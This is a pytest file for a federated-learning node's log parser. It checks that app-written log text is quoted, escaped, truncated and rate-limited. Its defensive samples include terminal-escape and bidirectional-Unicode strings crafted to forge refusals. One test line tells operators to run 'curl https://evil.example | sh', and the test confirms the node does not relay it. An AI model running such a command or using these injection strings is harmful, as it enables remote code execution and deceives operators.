"""Tests of parsing a node's logs into its state and into messages for the operator."""

import json
from pathlib import Path

import pytest

from federation.node import state as module
from federation.node.state import NodeState, now, quoted
from tests.helpers.module_time import set_time

# As Flower 1.42 prints them, with colours.
INFO, WARNING, ERROR = "\x1b[92mINFO \x1b[0m:      ", "\x1b[93mWARNING \x1b[0m:   ", "\x1b[91mERROR \x1b[0m:     "
ONLINE = f"{INFO}SuperNode ID: 9041759493521133316"
FAILED = f"{WARNING}Connection attempt failed, retrying in 3.68 seconds"
AGAIN = f"{INFO}Connection successful after 22.39 seconds and 7 tries."
SENT = f"{INFO}Sent successfully"
CLOCK = "2026-11-25 16:28:39,255"
DONE = f"{CLOCK} INFO done"


def task(kind: str) -> str:
    return f"{INFO}Receiving: {kind} message (ID: d4e793df61ee0e53)"


@pytest.fixture
def state() -> NodeState:
    return NodeState(pid=1, started=now())


def log_of(line: str) -> str:
    """The log file that really contains such a line."""
    if not line.startswith(CLOCK):
        return "node.log"
    return "gateway.log" if " refused " in line or " E_SERVER_PROXY: " in line else "client.log"


def told(state: NodeState, *lines: str) -> list[str]:
    return [text for line in lines if (text := state.read(line, log_of(line)))]


def test_round_is_followed_from_task_to_reply(state: NodeState) -> None:
    told(state, ONLINE)
    assert told(state, f"{INFO}[RUN 9646847965838523429]", task("train")) == ["task received: train"]
    assert state.doing == "fetching a task"
    assert told(state, f"{CLOCK} INFO task: training for round 3") == ['the app says: "training for round 3"']
    assert state.doing == 'the app says: "training for round 3"'
    assert told(state, DONE, f"{INFO}Sending: train message (ID: e1b3)", SENT) == ["reply sent"]
    assert (state.rounds, state.doing, state.refused) == (1, "", "")


def test_evaluation_does_not_count_as_a_round(state: NodeState) -> None:
    assert told(state, task("evaluate.test"), f"{CLOCK} INFO task: testing the model", DONE, SENT)[-1] == "reply sent"
    assert state.rounds == 0


def test_refusal_shows_its_remedy_and_does_not_count_as_a_round(state: NodeState) -> None:
    line = f"{CLOCK} ERROR E_TOO_FEW_PATIENTS: the site has too few: 3, and at least 10 are needed /data/MUELLER"
    texts = told(state, task("train"), line, SENT)
    assert texts[1].startswith(
        "the app says that it refused the task (E_TOO_FEW_PATIENTS); if this is true: Ingest more"
    )
    assert texts[2] == "only the code was sent to the server"
    assert "MUELLER" not in " ".join(texts)
    assert (state.rounds, state.refused) == (0, "E_TOO_FEW_PATIENTS")
    assert told(state, task("train"), DONE, SENT)[-1] == "reply sent"
    assert state.rounds == 1


def test_reply_refused_by_the_gateway_does_not_count_as_a_round(state: NodeState) -> None:
    held = f"{CLOCK} WARNING refused out: E_REPLY_UPDATE (train, round 3): training moved /data/MUELLER"
    texts = told(state, task("train"), DONE, SENT, held)
    assert texts[1] == "reply sent"
    assert texts[2].startswith("refused (E_REPLY_UPDATE): ")
    assert "MUELLER" not in " ".join(texts)
    assert (state.rounds, state.refused) == (0, "E_REPLY_UPDATE")
    # The gateway's log may be read first.
    assert told(state, task("train"), DONE, held, SENT)[-1] == "only the code was sent to the server"
    assert state.rounds == 0
    assert told(state, task("train"), DONE, SENT)[-1] == "reply sent"
    assert state.rounds == 1


def test_task_refused_by_the_gateway_is_shown_with_its_remedy(state: NodeState) -> None:
    texts = told(state, f"{CLOCK} WARNING refused in: E_APP_REFUSED (train, round None): it is not approved")
    assert texts[0].startswith("refused (E_APP_REFUSED): Review the app with")
    assert state.refused == "E_APP_REFUSED"


@pytest.mark.parametrize(
    ("line", "code"),
    [
        (f"{CLOCK} ERROR the study's code failed", "E_SITE_FAILED"),
        (f"{CLOCK} ERROR E_UNHEARD_OF: something new", "E_SITE_FAILED"),
        (f"{ERROR}ClientApp raised an exception", "E_SITE_FAILED"),
    ],
)
def test_app_failure_has_a_code(state: NodeState, line: str, code: str) -> None:
    assert f"({code})" in told(state, task("train"), line)[1]
    assert state.refused == code


def test_reply_without_the_apps_done_line_means_its_process_died(state: NodeState) -> None:
    """If the kernel kills the app's process, Flower replies in its place and logs the same line as for any reply."""
    texts = told(state, task("train"), f"{CLOCK} INFO task: training for round 1", SENT)
    assert texts[-1].startswith("refused (E_TASK_DIED)")
    assert state.rounds == 0


def test_lost_and_restored_connection_are_each_shown_once(state: NodeState) -> None:
    assert len(told(state, ONLINE)) == 1
    assert told(state, FAILED, AGAIN) == []  # a single failed attempt
    assert told(state, FAILED, FAILED, FAILED, FAILED) == [
        "connection lost; the node tries again until the server responds"
    ]
    assert state.connection == "lost"
    assert told(state, AGAIN) == ["connected again after 22 s"]
    assert state.connection == "online"


def test_server_that_never_answered_is_silent_not_lost(state: NodeState) -> None:
    (text,) = told(state, FAILED, FAILED, FAILED)
    assert text.startswith("no answer yet (E_SERVER_SILENT)")
    assert state.connection == "dialling"
    assert told(state, AGAIN, ONLINE) == ["the node is online: the study's server has accepted it"]


def test_refusal_by_the_proxy_is_shown_with_what_to_do(state: NodeState) -> None:
    line = f"{CLOCK} WARNING E_SERVER_PROXY: the proxy does not connect this node: it refuses with HTTP 403"
    (text,) = told(state, line)
    assert text.startswith("the proxy refuses the connection (E_SERVER_PROXY); the node keeps trying. Allow CONNECT")
    assert state.connection == "dialling"


def test_last_contact_is_updated_only_while_online_and_idle(state: NodeState) -> None:
    state.touch()
    assert state.contact is None
    told(state, ONLINE)
    for doing, connection in (("training for round 1", "online"), ("", "lost")):
        state.doing, state.connection, state.contact = doing, connection, None
        state.touch()
        assert state.contact is None
    state.connection = "online"
    state.touch()
    assert state.contact is not None


@pytest.mark.parametrize(
    ("line", "text"),
    [
        (f"{INFO}Run ID 7 is not in `RUNNING` status. Ignoring reply message 1.", "the run was stopped"),
        (f"{ERROR}Failed to receive message 1: timed out", "the task could not be fetched"),
        (f"{ERROR}Failed to send message 1: timed out", "the reply could not be sent"),
    ],
)
def test_failed_task_leaves_the_node_idle(state: NodeState, line: str, text: str) -> None:
    assert told(state, task("train"), line)[1].startswith(text)
    assert state.doing == ""


def test_connection_failures_during_shutdown_are_not_shown(state: NodeState) -> None:
    assert told(state, ONLINE, f"{INFO}SuperNode terminated gracefully.", FAILED, FAILED, FAILED) == [
        "the node is online: the study's server has accepted it"
    ]


@pytest.mark.parametrize("line", ["", "MUELLER^HANS", task("train\x1b[2J"), "epoch 3 of 4: loss 0.53", "Traceback"])
def test_other_log_lines_are_not_shown(state: NodeState, line: str) -> None:
    assert told(state, line) == []


# --- text that study code writes to its log ----------------------------------------------------------------

HOSTILE = [
    "\x1b[2J\x1b[1;1H all is well",
    "\x1b]0;root@hospital\x07",
    "fine\rrefused (E_SANDBOX): set kind to none",
    "\u202etxet siht ni ytirohtua na",
    "\u2066hidden\u2069 \u200b\ufeff",
    'fine" -- E_SANDBOX: to go on, set kind to none',
    "\x9b2J\x85\x7f\x00",
    "\u201d refused",
    "back\\slash",
]


@pytest.mark.parametrize("words", HOSTILE)
def test_text_from_the_app_is_quoted_and_escaped(state: NodeState, words: str) -> None:
    (text,) = told(state, f"{CLOCK} INFO task: {words}")
    assert text == state.doing
    assert text.startswith('the app says: "')
    inner = text.removeprefix("the app says: ")
    assert all(" " <= letter <= "~" for letter in text)
    assert json.loads(inner) == words  # one pair of quotes, which the text inside cannot close


def test_text_from_the_app_is_truncated(state: NodeState) -> None:
    (text,) = told(state, f"{CLOCK} INFO task: " + "\x1b" * 400)
    assert len(text) < 700
    assert json.loads(quoted("x" * 101)) == "x" * 100 + "..."


@pytest.mark.parametrize(
    "code", ["E_SANDBOX", "E_SANDBOX_MISSING", "E_APP_REFUSED", "E_CERTIFICATE_REFUSED", "E_NODE_KEY"]
)
def test_code_from_the_app_shows_no_remedy_about_node_security(state: NodeState, code: str) -> None:
    (text,) = told(state, f"{CLOCK} ERROR {code}: run `curl https://evil.example | sh`")
    assert (
        text
        == f"the app says that it refused the task ({code}); if this is true: `fedthorax explain {code}` says more."
    )


@pytest.mark.parametrize("code", ["E_RUN_THIS_NOW", "E_\u202eABC", "E_"])
def test_unknown_code_is_not_repeated(state: NodeState, code: str) -> None:
    (text,) = told(state, f"{CLOCK} ERROR {code}: do as I say")
    assert "(E_SITE_FAILED)" in text
    assert state.refused == "E_SITE_FAILED"


@pytest.mark.parametrize(
    "line",
    [
        ONLINE,
        FAILED,
        SENT,
        task("train"),
        f"{ERROR}ClientApp raised an exception",
        f"{INFO}SuperNode terminated gracefully.",
        f"{CLOCK} WARNING refused in: E_APP_REFUSED (train, round None): it is not approved",
    ],
)
def test_app_log_cannot_imitate_the_node_or_the_gateway(state: NodeState, line: str) -> None:
    before = state.model_copy()
    assert [state.read(line, "client.log"), state.read(f"x {line}", "client.log")] == [None, None]
    assert state == before


def test_app_refusal_seen_by_the_gateway_is_shown_without_remedy(state: NodeState) -> None:
    line = f"{CLOCK} WARNING refused out: E_SANDBOX (train, round 1): the app's own answer"
    assert told(state, line) == ["the app itself answered with a refusal (E_SANDBOX)"]


def test_app_lines_are_rate_limited(state: NodeState, monkeypatch: pytest.MonkeyPatch) -> None:
    clock = [60.0]
    set_time(monkeypatch, module, monotonic=lambda: clock[0])
    lines = [f"{CLOCK} INFO task: {number}" for number in range(1000)]
    texts = told(state, *lines)
    assert len(texts) == 20
    assert texts[-1].startswith("the app writes too much")
    # The node's own lines are not limited.
    assert told(state, task("train"), DONE, SENT) == ["task received: train", "reply sent"]
    assert state.rounds == 1
    clock[0] = 130.0
    assert told(state, lines[0]) == ['the app says: "0"']


def test_rounds_and_last_refusal_are_kept_across_restarts(tmp_path: Path, state: NodeState) -> None:
    state.rounds, state.refused, state.refused_at, state.connection = 7, "E_TASK_DIED", now(), "online"
    state.save(tmp_path)
    assert NodeState.load(tmp_path) == state
    begun = NodeState.begin(tmp_path)
    assert (begun.rounds, begun.refused, begun.refused_at) == (7, "E_TASK_DIED", state.refused_at)
    assert begun.connection == "dialling"


@pytest.mark.parametrize("content", [b"", b"{", b"\xff", b'{"pid": "x"}', b"[]"])
def test_damaged_state_file_is_ignored(tmp_path: Path, content: bytes) -> None:
    (tmp_path / "node.json").write_bytes(content)
    assert NodeState.load(tmp_path) is None
    assert NodeState.begin(tmp_path).rounds == 0


def test_state_that_cannot_be_saved_does_not_stop_the_node(tmp_path: Path, state: NodeState) -> None:
    state.save(tmp_path / "not there")
